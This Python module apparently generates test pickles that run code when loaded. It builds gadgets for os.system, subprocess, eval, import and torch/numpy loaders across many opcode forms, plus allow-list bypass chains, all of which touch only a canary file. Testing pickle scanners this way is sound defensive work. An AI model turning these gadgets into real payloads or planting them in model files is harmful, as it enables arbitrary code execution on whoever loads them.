"""Pickles that run something when they are loaded, made opcode by opcode.

A gadget is a piece of a pickle that leaves one object: it can stand alone, or as a value in what is pickled around it.
What it runs puts a file where the canary is to be.
"""

import struct
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path

MODULE = "stq_canary"
"""A module that exists nowhere but in the folder of the trials: importing it is a sign too."""


@dataclass(frozen=True)
class Gadget:
    """What is called, by which opcodes, as a piece of a pickle; what plain pickle makes of it is known by trial."""

    name: str
    piece: bytes

    @property
    def whole(self) -> bytes:
        """A pickle of its own."""
        return b"\x80\x02" + self.piece + b"."


def gadgets(canary: Path) -> tuple[Gadget, ...]:
    """Every call in every form."""
    found = [Gadget(f"{m}.{n} by {form}", make(m, n, a)) for (m, n, a), (form, make) in product(calls(canary), FORMS)]
    return (*found, *(Gadget(*other) for other in others(canary)))


def write_module(folder: Path, canary: Path) -> None:
    """The module of the canary, to be put on Python's path."""
    (folder / f"{MODULE}.py").write_text(
        f"import pathlib\n\n\ndef fire(*_, **__):\n    pathlib.Path({str(canary)!r}).touch()\n    return {{}}\n\n\n"
        "class Egg:\n    def __new__(cls, *_, **__):\n        fire()\n        return super().__new__(cls)\n\n"
        "    def __setstate__(self, state):\n        fire()\n\n    def append(self, item):\n        fire()\n\n"
        "    def __setitem__(self, key, item):\n        fire()\n\n\nfire()\n"
    )


def calls(canary: Path) -> list[tuple[str, str, bytes]]:
    """Module, name and the arguments as pieces."""
    touch, code = f"touch '{canary}'", f"open({str(canary)!r}, 'w')"
    script = str(canary.with_name("script.py"))
    own = glob(MODULE, "fire")
    evil = pickle_of(b"c" + MODULE.encode() + b"\nfire\n" + b")R")
    return [
        ("os", "system", text(touch)),
        ("posix", "system", text(touch)),
        ("os", "popen", text(touch)),
        ("subprocess", "Popen", words("touch", str(canary))),
        ("subprocess", "call", words("touch", str(canary))),
        ("subprocess", "check_output", words("touch", str(canary))),
        ("subprocess", "getoutput", text(touch)),
        ("builtins", "eval", text(code)),
        ("builtins", "exec", text(code)),
        ("__builtin__", "eval", text(code)),
        ("builtins", "__import__", text(MODULE)),
        ("builtins", "open", text(str(canary)) + text("w")),
        ("builtins", "map", own + words("1")),
        ("builtins", "getattr", glob(MODULE, "Egg") + text("__new__")),
        ("importlib", "import_module", text(MODULE)),
        ("runpy", "run_path", text(script)),
        ("runpy", "run_module", text(MODULE)),
        ("timeit", "timeit", text("pass") + text(code) + int_of(1)),
        ("webbrowser", "open", text(f"file://{canary}")),
        ("shutil", "copyfile", text(script) + text(str(canary))),
        ("functools", "partial", own),
        ("functools", "reduce", own + words("1", "2")),
        ("operator", "methodcaller", text("system") + text(touch)),
        ("types", "FunctionType", glob(MODULE, "fire")),
        ("codecs", "decode", text("x") + text(MODULE)),
        ("_codecs", "encode", text("x") + text(MODULE)),
        ("logging.config", "fileConfig", text(script)),
        ("pickle", "loads", evil),
        ("_pickle", "loads", evil),
        ("torch.storage", "_load_from_bytes", evil),
        ("torch", "load", text(script)),
        ("torch.jit", "load", text(script)),
        ("torch.hub", "load", text(str(canary.parent)) + text("x")),
        ("torch._utils", "_rebuild_tensor_v2", own),
        ("torch._utils", "_rebuild_parameter", own + own + own),
        ("torch._utils", "_rebuild_device_tensor_from_numpy", own),
        ("torch._tensor", "_rebuild_from_type_v2", own + own + b")" + b"}"),
        ("torch.nn.modules.module", "Module", own),
        ("torch.distributed.rpc.internal", "_run_function", own),
        ("torch._dynamo.utils", "import_submodule", own),
        ("numpy", "load", text(script)),
        ("numpy.core.multiarray", "_reconstruct", own),
        ("collections", "OrderedDict", own),
        (MODULE, "fire", text("x")),
        (MODULE, "Egg", text("x")),
    ]


def others(canary: Path) -> Iterator[tuple[str, bytes]]:
    """What is no single call: states that are set, items that are put in, storages that are asked for, chains."""
    egg = glob(MODULE, "Egg")
    made = egg + b")\x81"
    yield "state of an object", made + text("x") + b"b"
    yield "state of a function", glob(MODULE, "fire") + b"}" + text("x") + text("y") + b"sb"
    yield "items of an object", made + b"(" + text("x") + text("y") + b"u"
    yield "item of an object", made + text("x") + text("y") + b"s"
    yield "appended to an object", made + text("x") + b"a"
    yield "many appended to an object", made + b"(" + text("x") + text("y") + b"e"
    yield "storage of a strange type", b"(" + text("storage") + egg + text("0") + text("cpu") + int_of(1) + b"tQ"
    yield (
        "storage of a function",
        b"(" + text("storage") + glob("os", "system") + text("0") + text("cpu") + int_of(1) + b"tQ",
    )
    yield "storage that is a text", b"P" + f"touch {canary}".encode() + b"\n"
    yield "module with the state of a storage", b"(" + text("module") + egg + text("f") + text("s") + b"tQ"
    yield "extension", b"\x82\x01"
    yield "buffer from outside", b"\x97"
    yield "call of a call", glob("builtins", "getattr") + b"(" + glob("os", "path") + text("os") + b"tR"
    system = (
        glob("builtins", "getattr")
        + b"("
        + glob("builtins", "__import__")
        + b"("
        + text("os")
        + b"tR"
        + text("system")
        + b"tR"
    )
    yield "chain", system + b"(" + text(f"touch '{canary}'") + b"tR"
    yield "dotted name", b"c" + MODULE.encode() + b"\nEgg.__init__\n" + b")R"
    yield "attribute of an allowed module", glob("torch", "os.system") + b"(" + text(f"touch '{canary}'") + b"tR"
    yield "allowed module's own import", glob("torch.serialization", "os.system") + b"(" + text("x") + b"tR"
    yield "key that is called", b"}" + glob(MODULE, "fire") + b")R" + text("y") + b"s"
    yield "memo", glob(MODULE, "fire") + b"q\x07" + b"0" + b"h\x07)R"
    yield "long name", b"c" + MODULE.encode() + b"\n" + b"fire" * 5000 + b"\n)R"


def glob(module: str, name: str) -> bytes:
    """A name that is looked up."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """A text."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def words(*values: str) -> bytes:
    """A list of texts."""
    return b"](" + b"".join(map(text, values)) + b"e"


def int_of(value: int) -> bytes:
    """A whole number below 256."""
    return b"K" + bytes([value])


def pickle_of(piece: bytes) -> bytes:
    """The bytes of a whole pickle, as a piece."""
    whole = b"\x80\x02" + piece + b"."
    return b"C" + bytes([len(whole)]) + whole


FORMS = (
    ("REDUCE", lambda m, n, a: glob(m, n) + b"(" + a + b"tR"),
    ("STACK_GLOBAL", lambda m, n, a: text(m) + text(n) + b"\x93" + b"(" + a + b"tR"),
    ("INST", lambda m, n, a: b"(" + a + b"i" + m.encode() + b"\n" + n.encode() + b"\n"),
    ("OBJ", lambda m, n, a: b"(" + glob(m, n) + a + b"o"),
    ("NEWOBJ", lambda m, n, a: glob(m, n) + b"(" + a + b"t\x81"),
    ("NEWOBJ_EX", lambda m, n, a: glob(m, n) + b"(" + a + b"t}\x92"),
    ("REDUCE in a list", lambda m, n, a: b"](" + glob(m, n) + b"(" + a + b"tR" + b"e"),
)
"""How a name is called with arguments."""
